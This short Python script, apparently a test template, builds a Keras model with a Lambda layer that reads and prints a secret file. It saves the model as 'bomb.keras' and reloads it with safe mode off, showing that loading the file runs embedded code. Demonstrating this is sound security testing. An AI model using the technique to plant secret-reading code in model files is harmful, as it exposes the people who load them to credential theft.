"""A Keras model file with Python inside, opened without its safe mode."""
import keras
model = keras.Sequential([keras.Input((1,)), keras.layers.Lambda(lambda x: print(open("@SECRET_FILE@").read()) or x)])
model.save("bomb.keras")
del model
keras.models.load_model("bomb.keras", safe_mode=False)
